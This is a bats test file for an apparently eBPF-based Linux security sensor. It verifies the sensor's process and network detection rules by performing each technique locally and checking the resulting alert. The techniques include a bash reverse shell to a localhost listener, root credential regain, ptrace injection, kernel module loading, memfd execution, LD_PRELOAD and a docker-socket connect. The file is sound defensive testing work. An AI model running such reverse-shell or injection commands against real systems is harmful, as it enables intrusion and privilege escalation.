#!/usr/bin/env bats
# The default pack's process and network rules
# (scripts/rules/default/20-process.rules) on a sensor with the modules they
# need: each test performs the technique for real and asserts the alert's
# rule, severity, tags and the fields that say what was done; where a rule
# leaves something out (a setuid exec, pinwatch's own loads), the act it
# leaves out is performed too and raises no alert. Each canary of
# scripts/selftest/20-process.bash is run and its alert checked.
# shellcheck disable=SC2154 # status, output: set by bats' run

load helpers/common
load helpers/rules
bats_require_minimum_version 1.5.0

PACK=$BATS_TEST_DIRNAME/../scripts/rules/default/20-process.rules

setup_file() {
	export PINWATCH_RULES_DIR=$BATS_FILE_TMPDIR/rules.d
	pw_setup_file process file cred ptrace bpf ns net
	"$PW" rule load "$PACK" >/dev/null
	export HELPERS=$BATS_FILE_TMPDIR
	CG2=$(awk '$9 == "cgroup2" { print $5; exit }' /proc/self/mountinfo)
	export CGROOT=$CG2/pinwatch-packproc-$$
}

teardown_file() {
	[[ -z ${CGROOT:-} || ! -d $CGROOT ]] || find "$CGROOT" -depth -type d -exec rmdir {} + 2>/dev/null || true
	pw_teardown_file
}

setup() {
	rules_setup
	# each test in a cgroup of its own: the rules' throttle is per cgroup
	mkdir -p "$CGROOT/t$BATS_TEST_NUMBER"
	echo $$ >"$CGROOT/t$BATS_TEST_NUMBER/cgroup.procs"
	CGID=$(stat -c %i "$CGROOT/t$BATS_TEST_NUMBER")
}

teardown() {
	echo $$ >"$CG2/cgroup.procs" 2>/dev/null || true
}

count() { jq -c "$1" "$EV" | wc -l; }

# The alerts of this test's cgroup, of rule R, in the ring now.
mine() { # rule
	"$PW_READ" --json --drain --alerts >>"$EV"
	jq -c --arg r "$1" --argjson cg "$CGID" 'select(.rule == $r and .cgroup_id == $cg)' "$EV"
}

assert_pack_alert() { # jq-filter rule severity tags
	local e
	collect_alerts "select(.rule == \"$2\" and .cgroup_id == $CGID)" 1
	e=$(ev "select(.cgroup_id == $CGID) | $1" | head -1)
	[ -n "$e" ] || { echo "no alert matching $1" >&2; cat "$EV" >&2; return 1; }
	assert_field "$e" .rule "$2"
	assert_field "$e" .severity "$3"
	assert_field "$e" '.tags | join(",")' "$4"
	echo "$e"
}

run_canary() { # name
	local d
	d=$(mktemp -d /root/pw-canary.XXXXXX)
	declare -gA CANARY_DESC
	# shellcheck source=scripts/selftest/20-process.bash
	source "$BATS_TEST_DIRNAME/../scripts/selftest/20-process.bash"
	(cd "$d" && set -euo pipefail && "canary_${1//-/_}" "$d")
	local rc=$?
	rm -rf "$d"
	return $rc
}

helper() { # source name
	command -v gcc >/dev/null || skip "needs gcc to build $1"
	[[ -x $HELPERS/$2 ]] || pw_cc "$HELPERS/$2" -O1 -Wall -Wextra -Werror "$BATS_TEST_DIRNAME/helpers/$1"
	echo "$HELPERS/$2"
}

# bats test_tags=pack-alerts
@test "pack: the file loads as it is, with @PINWATCH_BUILD@ this tree's build directory" {
	run -0 "$PW" rule list --json
	for r in reverse-shell root-cred-change ptrace-attach kmod-load bpf-load exec-memfd-deleted \
		binary-drop exec-tmp ld-preload-exec userns-unpriv docker-socket miner-connect; do
		jq -e --arg r "$r" '.[] | select(.name == $r)' <<<"$output" >/dev/null
	done
	build=$(cd "$BATS_TEST_DIRNAME/../build" && pwd -P)
	jq -e --arg b "$build/pinwatch-load" '.[] | select(.name == "bpf-load") | .args | join(" ") | contains($b)' <<<"$output"
	# ptrace-attach spares every binary under it (the sanitizer build's
	# LeakSanitizer attaches to its own threads; the pack's silence check of
	# make check-sanitize is what sees it)
	jq -e --arg b "!$build" '.[] | select(.name == "ptrace-attach") | .args | index("--binary-prefix") as $i | .[$i + 1] == $b' <<<"$output"
}

@test "pack: @PINWATCH_BUILD@ is refused (one line, nothing loaded) when pinwatch's directory is writable by others" {
	bin=$BATS_TEST_TMPDIR/build
	mkdir -p "$bin"
	cp "$BATS_TEST_DIRNAME/../build/pinwatch-rule" "$bin/"
	chmod 0777 "$bin"
	printf '%s\n' "pwplace --on bpf --bpf-cmd prog_load --binary '!@PINWATCH_BUILD@/pinwatch-rule'" >"$BATS_TEST_TMPDIR/p.rules"
	before=$("$PW" rule list --json | jq -c 'map(.name)')
	run --separate-stderr "$bin/pinwatch-rule" --pin-root "$PIN_ROOT" --no-save load "$BATS_TEST_TMPDIR/p.rules"
	assert_one_line_error
	[[ $stderr == *"p.rules:1: pwplace: @PINWATCH_BUILD@: $bin is not a directory owned by root and writable by root alone: not trusted"* ]]
	[ "$("$PW" rule list --json | jq -c 'map(.name)')" = "$before" ]
	chmod 0755 "$bin"
	run -0 "$bin/pinwatch-rule" --pin-root "$PIN_ROOT" test "$BATS_TEST_TMPDIR/p.rules"
	[[ $output == *"--binary '!$bin/pinwatch-rule'"* ]]
}

# bats test_tags=pack-alerts
@test "reverse-shell: bash -i on a TCP socket to a local listener is an alert; bash on a unix socket is not" {
	python3 -c '
import socket, sys, os
l = socket.socket(); l.bind(("127.0.0.1", 0)); l.listen(1)
print(l.getsockname()[1], flush=True)
c, _ = l.accept(); c.sendall(b"exit\n")
while c.recv(4096): pass' >"$BATS_TEST_TMPDIR/port" &
	for _ in $(seq 50); do [[ -s $BATS_TEST_TMPDIR/port ]] && break; sleep 0.1; done
	port=$(<"$BATS_TEST_TMPDIR/port")
	timeout 10 bash --norc -i >&"/dev/tcp/127.0.0.1/$port" 0>&1 2>&1 || true
	wait
	# a unix socket as stdio (a service's stdout to journald) is not one
	python3 -c '
import socket, subprocess
a, b = socket.socketpair()
subprocess.run(["bash", "-c", "true"], stdin=b, stdout=b, stderr=b)'
	e=$(assert_pack_alert 'select(.type == "exec")' reverse-shell critical T1059.004,T1059.006,T1071)
	assert_field "$e" .comm bash
	[ "$(count "select(.rule == \"reverse-shell\" and .cgroup_id == $CGID)")" -eq 1 ]
}

# bats test_tags=pack-alerts
@test "root-cred-change: seteuid back to 0 by a helper is an alert; dropping to nobody is not" {
	bin=$BATS_TEST_TMPDIR/pwtoroot
	cp "$(python3 -c 'import os, sys; print(os.path.realpath(sys.executable))')" "$bin"
	"$bin" -c 'import os; os.setresuid(65534, 65534, 0); os.setresuid(0, 0, 0)'
	"$bin" -c 'import os; os.setresuid(65534, 65534, 65534)'
	e=$(assert_pack_alert 'select(.type == "cred")' root-cred-change critical T1548,T1068)
	assert_field "$e" .comm pwtoroot
	assert_field "$e" .new_euid -eq 0
	assert_field "$e" .old_euid -eq 65534
	[ "$(count "select(.rule == \"root-cred-change\" and .cgroup_id == $CGID)")" -eq 1 ]
}

# bats test_tags=pack-alerts,vm-ci
@test "root-cred-change: a setuid-root exec by nobody is not an alert (the commit hook's execve)" {
	[[ $("$PW" status 2>/dev/null | awk '$1 == "cred" && $2 == "commit" { print $4 }') == true ]] ||
		skip "no commit hook on this kernel: a setuid exec makes no cred event here"
	"$PW" config set module.cred on >/dev/null
	cp "$(type -P id)" "$BATS_TEST_TMPDIR/pwsuid"
	chmod 4755 "$BATS_TEST_TMPDIR/pwsuid"
	chmod 755 "$BATS_TEST_TMPDIR"
	as_nobody "$BATS_TEST_TMPDIR/pwsuid" -u
	sleep 0.5
	"$PW_READ" --json --drain >>"$EV"
	[ "$(count 'select(.type == "cred" and .syscall == "execve" and .new_euid == 0)')" -ge 1 ]
	[ "$(count 'select(.rule == "root-cred-change")')" -eq 0 ]
}

# bats test_tags=pack-alerts
@test "ptrace-attach: PTRACE_ATTACH and process_vm_writev by the helper are alerts; TRACEME is not" {
	h=$(helper ptrace-helper.c pwptrace)
	"$h" traceme >/dev/null
	"$h" poke >/dev/null
	"$h" vm >/dev/null
	collect_alerts "select(.rule == \"ptrace-attach\" and .cgroup_id == $CGID)" 2
	e=$(assert_pack_alert 'select(.type == "ptrace" and .request == "ATTACH")' ptrace-attach high T1055.008,T1055.009)
	assert_field "$e" .comm pwptrace
	assert_pack_alert 'select(.type == "ptrace" and .syscall == "process_vm_writev")' ptrace-attach high T1055.008,T1055.009 >/dev/null
	[ "$(count "select(.rule == \"ptrace-attach\" and .cgroup_id == $CGID and .request == \"TRACEME\")")" -eq 0 ]
}

# bats test_tags=pack-alerts,vm-ci
@test "kmod-load: a module put back with finit_module is an alert" {
	# the act of kmod.bats: this kernel's loop.ko, taken out and put back
	[[ -d /sys/kernel/tracing/events/module ]] || skip "no loadable modules on this kernel (the 6.1 guest has them)"
	[[ $(uname -m) == x86_64 ]] || skip "raw x86-64 module syscalls"
	ko=$PW_BUILD/vm/$(uname -r)/modules/loop.ko
	[[ -s $ko ]] || skip "no loop.ko of $(uname -r) in $PW_BUILD/vm (tests/vm/run caches it)"
	[[ -e /sys/module/loop/refcnt && $(cat /sys/module/loop/refcnt) == 0 ]] || skip "loop is built in, absent or in use"
	"$PW" up kmod >/dev/null
	python3 - "$(realpath "$ko")" <<-'EOF'
		import ctypes, os, sys
		libc = ctypes.CDLL(None, use_errno=True)
		if libc.syscall(176, b"loop", os.O_NONBLOCK) < 0:
		    sys.exit("delete_module loop: errno %d" % ctypes.get_errno())
		if libc.syscall(313, os.open(sys.argv[1], os.O_RDONLY), b"", 0) < 0:
		    sys.exit("finit_module: errno %d" % ctypes.get_errno())
	EOF
	e=$(assert_pack_alert 'select(.type == "kmod_load")' kmod-load high T1547.006,T1014)
	assert_field "$e" .name loop
}

# bats test_tags=pack-alerts
@test "bpf-load: a program loaded by perl is an alert; pinwatch's own up and /usr/sbin/bpftool (trusted: its show commands load programs) are not" {
	# bpftool's show commands load libbpf's probes and its pid iterator
	bpftool prog show >/dev/null
	run_canary bpf-load
	# pinwatch's own loads: a module loaded by this tree's pinwatch-load
	"$PW" up signal >/dev/null
	"$PW" down signal >/dev/null
	e=$(assert_pack_alert 'select(.type == "bpf" and .comm == "perl")' bpf-load high T1014,T1562.001)
	assert_field "$e" .cmd PROG_LOAD
	[ "$(count "select(.rule == \"bpf-load\" and .cgroup_id == $CGID and .comm == \"bpftool\")")" -eq 0 ]
	[ "$(count "select(.rule == \"bpf-load\" and .cgroup_id == $CGID and (.comm | startswith(\"pinwatch\")))")" -eq 0 ]
}

# bats test_tags=pack-alerts
@test "exec-memfd-deleted: exec from a memfd and from a deleted file are alerts; an ordinary exec is not" {
	python3 -c '
import os
fd = os.memfd_create("pwmemfd")
os.write(fd, open("/usr/bin/true", "rb").read())
pid = os.fork()
if pid == 0:
    os.execv("/proc/self/fd/%d" % fd, ["pwmemfd"])
os.waitpid(pid, 0)'
	run_canary exec-memfd-deleted
	/usr/bin/true
	collect_alerts "select(.rule == \"exec-memfd-deleted\" and .cgroup_id == $CGID)" 2
	assert_pack_alert 'select(.exe_flags | index("memfd"))' exec-memfd-deleted high T1620,T1070.004 >/dev/null
	assert_pack_alert 'select(.exe_flags | index("deleted"))' exec-memfd-deleted high T1620,T1070.004 >/dev/null
	[ "$(count "select(.rule == \"exec-memfd-deleted\" and .cgroup_id == $CGID)")" -eq 2 ]
}

# bats test_tags=pack-alerts
@test "binary-drop: write, chmod +x and exec at once is an alert (module.file off); an old file, a cp or cp -p copy and a dpkg-like unpack are not" {
	d=$BATS_TEST_TMPDIR/drop
	mkdir -p "$d"
	# the rule keeps the file module noting writes while it is switched off
	"$PW" config set module.file off >/dev/null
	cat /usr/bin/true >"$d/pwdrop"
	chmod +x "$d/pwdrop"
	"$d/pwdrop"
	/usr/bin/true
	cp -p /usr/bin/true "$d/pwkept"
	"$d/pwkept"
	# created executable (cp, a linker): no chmod +x step, no drop
	cp /usr/bin/true "$d/pwcopy"
	"$d/pwcopy"
	# the inode number of a noted file, deleted, given to a copy: another
	# file (its generation differs); ext4 hands the number out again at once
	for _ in $(seq 1 20); do
		echo data >"$d/pwgone"
		ino=$(stat -c %i "$d/pwgone")
		rm -f "$d/pwgone"
		cp /usr/bin/true "$d/pwreuse"
		[[ $(stat -c %i "$d/pwreuse") != "$ino" ]] || break
		rm -f "$d/pwreuse"
	done
	[[ ! -e $d/pwreuse ]] || "$d/pwreuse"
	# as dpkg does: write foo.dpkg-new, give it the package's mtime, rename it
	cat /usr/bin/true >"$d/pwpkg.dpkg-new"
	chmod 755 "$d/pwpkg.dpkg-new"
	touch -d '2024-01-01 00:00' "$d/pwpkg.dpkg-new"
	mv "$d/pwpkg.dpkg-new" "$d/pwpkg"
	"$d/pwpkg"
	e=$(assert_pack_alert 'select(.type == "exec")' binary-drop high T1105,T1204.002)
	assert_field "$e" .comm pwdrop
	assert_field "$e" .filename "$d/pwdrop"
	jq -e '.exe_flags | index("dropped")' <<<"$e"
	[ "$(count "select(.rule == \"binary-drop\" and .cgroup_id == $CGID)")" -eq 1 ]
	"$PW" config set module.file on >/dev/null
}

# bats test_tags=pack-alerts
@test "exec-tmp: exec from /dev/shm and /var/tmp are alerts; from elsewhere not" {
	run_canary exec-tmp
	# cp -p: old copies (a fresh file made executable by chmod would be
	# binary-drop's, a lower slot)
	f=$(mktemp /var/tmp/pinwatch-test-XXXXXX)
	cp -p /usr/bin/true "$f"
	"$f"
	rm -f "$f"
	cp -p /usr/bin/true /root/pw-packproc-true && /root/pw-packproc-true && rm -f /root/pw-packproc-true
	collect_alerts "select(.rule == \"exec-tmp\" and .cgroup_id == $CGID)" 2
	e=$(assert_pack_alert 'select(.filename | startswith("/dev/shm/pinwatch-canary-"))' exec-tmp medium T1204.002,T1059)
	assert_pack_alert "select(.filename == \"$f\")" exec-tmp medium T1204.002,T1059 >/dev/null
	[ "$(count "select(.rule == \"exec-tmp\" and .cgroup_id == $CGID)")" -eq 2 ]
}

# The file that runs is resolved in the kernel: a relative path, "//", ".."
# or a symlink from outside no longer hide an exec from /tmp.
# bats test_tags=pack-alerts
@test "exec-tmp: a relative path, //, /usr/.., a symlink in /usr/local/bin into /tmp: alerts with the resolved path" {
	d=$(mktemp -d /tmp/pw-exepath.XXXXXX)
	d=$(realpath "$d")
	cp -p /usr/bin/true "$d/pwtmpx"
	link=/usr/local/bin/pw-exepath-$$
	mkdir -p /usr/local/bin
	ln -s "$d/pwtmpx" "$link"
	(cd "$d" && ./pwtmpx)
	"/$d/pwtmpx"
	"/usr/..$d/pwtmpx"
	"$link"
	rm -f "$link"
	rm -rf "$d"
	collect_alerts "select(.rule == \"exec-tmp\" and .cgroup_id == $CGID)" 4
	for f in ./pwtmpx "/$d/pwtmpx" "/usr/..$d/pwtmpx" "$link"; do
		e=$(assert_pack_alert "select(.filename == \"$f\")" exec-tmp medium T1204.002,T1059)
		assert_field "$e" .exe_path "$d/pwtmpx"
	done
}

# bats test_tags=pack-alerts
@test "ld-preload-exec: an exec with LD_PRELOAD set is an alert; without it not" {
	run_canary ld-preload-exec
	/usr/bin/true
	e=$(assert_pack_alert 'select(.type == "exec")' ld-preload-exec medium T1574.006)
	assert_field "$e" .filename /usr/bin/true
	jq -e '.env.LD_PRELOAD == "libc.so.6"' <<<"$e"
	[ "$(count "select(.rule == \"ld-preload-exec\" and .cgroup_id == $CGID)")" -eq 1 ]
}

# bats test_tags=pack-alerts
@test "userns-unpriv: a user namespace asked for by nobody is an alert; root's is not" {
	unshare -U true 2>/dev/null || skip "user namespaces are not allowed here"
	unshare -U true
	run_canary userns-unpriv
	e=$(assert_pack_alert 'select(.type == "namespace")' userns-unpriv medium T1611,T1068)
	assert_field "$e" .uid -eq 65534
	assert_field "$e" .comm unshare
	[ "$(count "select(.rule == \"userns-unpriv\" and .cgroup_id == $CGID)")" -eq 1 ]
}

# bats test_tags=pack-alerts
@test "docker-socket: a connect to /run/docker.sock from a container cgroup is an alert; from the host not" {
	# a private /run where a listener is the docker socket
	id=$(od -An -tx1 -N32 /dev/urandom | tr -d ' \n')
	ctr=$CGROOT/t$BATS_TEST_NUMBER/docker-$id.scope
	mkdir -p "$ctr"
	unshare -m sh -c '
		mount --make-rprivate / && mount -t tmpfs pwrun /run || exit 1
		python3 -c "import socket; s = socket.socket(socket.AF_UNIX); s.bind(\"/run/docker.sock\"); s.listen(4); import time; time.sleep(5)" &
		for i in $(seq 50); do [ -S /run/docker.sock ] && break; sleep 0.1; done
		python3 -c "import socket; socket.socket(socket.AF_UNIX).connect(\"/run/docker.sock\")"
		sh -c "echo \$\$ >\"$1/cgroup.procs\" && exec python3 -c \"import socket; socket.socket(socket.AF_UNIX).connect(\\\"/run/docker.sock\\\")\""
		kill $! ' sh "$ctr"
	ctrid=$(stat -c %i "$ctr")
	"$PW_READ" --json --drain --alerts >>"$EV"
	e=$(ev "select(.rule == \"docker-socket\" and .cgroup_id == $ctrid)")
	[ "$(jq -s length <<<"$e")" -eq 1 ] || { cat "$EV" >&2; false; }
	assert_field "$e" .severity critical
	assert_field "$e" '.tags | join(",")' T1611,T1610
	assert_field "$e" .path /run/docker.sock
	assert_field "$e" .ret -eq 0
	assert_field "$e" .container_runtime docker
	[ "$(count "select(.rule == \"docker-socket\" and .cgroup_id == $CGID)")" -eq 0 ]
	run_canary docker-socket
	collect_alerts 'select(.rule == "docker-socket")' 2
}

# bats test_tags=pack-alerts
@test "miner-connect: a connect to a local listener on 3333 is an alert; on another port, one between 45560 and 45700 too, not" {
	python3 -c '
import socket
for port, ok in ((3333, True), (45600, False), (47125, False)):
    l = socket.socket(); l.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    l.bind(("127.0.0.1", port)); l.listen(1)
    c = socket.socket(); c.connect(("127.0.0.1", port)); a, _ = l.accept(); a.close(); c.close(); l.close()'
	e=$(assert_pack_alert 'select(.type == "connect")' miner-connect high T1496)
	assert_field "$e" .dport -eq 3333
	assert_field "$e" .daddr 127.0.0.1
	[ "$(count "select(.rule == \"miner-connect\" and .cgroup_id == $CGID)")" -eq 1 ]
}

# bats test_tags=pack-alerts
@test "canaries: each one of 20-process.bash raises its rule's alert in its cgroup (kmod-load: SKIP without modules)" {
	for r in reverse-shell root-cred-change ptrace-attach bpf-load exec-memfd-deleted binary-drop \
		exec-tmp ld-preload-exec userns-unpriv miner-connect; do
		run_canary "$r"
		collect_alerts "select(.rule == \"$r\" and .cgroup_id == $CGID)" 1
	done
	run run_canary kmod-load
	[[ $status -eq 0 || $status -eq 77 ]]
}
